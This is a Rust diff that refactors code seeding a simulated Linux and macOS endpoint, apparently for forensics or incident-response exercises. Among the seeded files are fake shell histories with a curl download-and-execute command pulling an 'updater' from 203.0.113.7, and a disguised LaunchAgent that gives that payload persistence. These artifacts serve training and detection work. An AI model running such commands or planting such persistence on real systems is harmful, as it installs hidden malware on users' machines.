@@ -949,7 +949,7 @@ impl Endpoint {
     fn parent_of(&self, path: &str) -> String {
         let sep = self.sep();
         match path.trim_end_matches(sep).rsplit_once(sep) {
-            Some((parent, _)) if parent.is_empty() => sep.to_string(),
+            Some(("", _)) => sep.to_string(),
             Some((parent, _)) => parent.to_owned(),
             None => path.to_owned(),
         }
@@ -1102,8 +1102,7 @@ impl Endpoint {
             ("/usr/bin/python3", 5_904_904),
             ("/usr/bin/curl", 260_328),
         ];
-        let texts: Vec<(String, Vec<u8>)>;
-        if linux {
+        let texts: Vec<(String, Vec<u8>)> = if linux {
             for d in [
                 "/boot",
                 "/dev",
@@ -1137,7 +1136,7 @@ impl Endpoint {
                 ("/var/log/btmp", 4_608),
                 ("/tmp/.cache/updater", 73_216),
             ]);
-            texts = vec![
+            vec![
                 ("/etc/hostname".into(), format!("{host}\n").into_bytes()),
                 ("/etc/hosts".into(), format!("127.0.0.1 localhost\n127.0.1.1 {host}\n\n::1     ip6-localhost ip6-loopback\n").into_bytes()),
                 ("/etc/passwd".into(), b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nsyslog:x:104:110::/home/syslog:/usr/sbin/nologin\nsshd:x:109:65534::/run/sshd:/usr/sbin/nologin\njdoe:x:1000:1000:John Doe,,,:/home/jdoe:/bin/bash\n".to_vec()),
@@ -1156,7 +1155,7 @@ impl Endpoint {
                 ("/home/jdoe/.bash_history".into(), b"ls -la\nsudo curl -o /tmp/.cache/updater http://203.0.113.7/u\nchmod +x /tmp/.cache/updater\n/tmp/.cache/updater --silent &\n".to_vec()),
                 ("/home/jdoe/.ssh/authorized_keys".into(), b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEdrgateSimulatedKeyOnlyForTests jdoe@laptop\n".to_vec()),
                 ("/home/jdoe/todo.txt".into(), b"- call IT about the weird popup\n- renew VPN cert\n".to_vec()),
-            ];
+            ]
         } else {
             for d in [
                 "/Applications/Safari.app/Contents/MacOS",
@@ -1199,7 +1198,7 @@ impl Endpoint {
                 ("/System/Applications/TextEdit.app/Contents/MacOS/TextEdit", 509_232),
                 ("/Users/jdoe/Library/Application Support/.updater/updater", 73_216),
             ]);
-            texts = vec![
+            vec![
                 ("/etc/hosts".into(), b"##\n# Host Database\n##\n127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n".to_vec()),
                 ("/etc/passwd".into(), b"##\n# User Database\n##\nnobody:*:-2:-2:Unprivileged User:/var/empty:/usr/bin/false\nroot:*:0:0:System Administrator:/var/root:/bin/sh\n_windowserver:*:88:88:WindowServer:/var/empty:/usr/bin/false\n".to_vec()),
                 ("/var/log/system.log".into(), format!("Jan 10 09:15:02 {host} launchd[1]: Service com.apple.updater started\n").into_bytes()),
@@ -1209,8 +1208,8 @@ impl Endpoint {
                 ("/Users/jdoe/Library/LaunchAgents/com.apple.updater.plist".into(), b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.apple.updater</string><key>ProgramArguments</key><array><string>/Users/jdoe/Library/Application Support/.updater/updater</string><string>--silent</string></array><key>RunAtLoad</key><true/></dict></plist>\n".to_vec()),
                 ("/Users/jdoe/.zsh_history".into(), b": 1704877000:0;curl -o ~/Library/Application\\ Support/.updater/updater http://203.0.113.7/u\n: 1704877010:0;chmod +x ~/Library/Application\\ Support/.updater/updater\n".to_vec()),
                 ("/Users/jdoe/Desktop/todo.txt".into(), b"- call IT about the weird popup\n- renew VPN cert\n".to_vec()),
-            ];
-        }
+            ]
+        };
         for (path, size) in binaries {
             let parent = self.parent_of(path);
             self.seed_dir_all(&parent, t0);
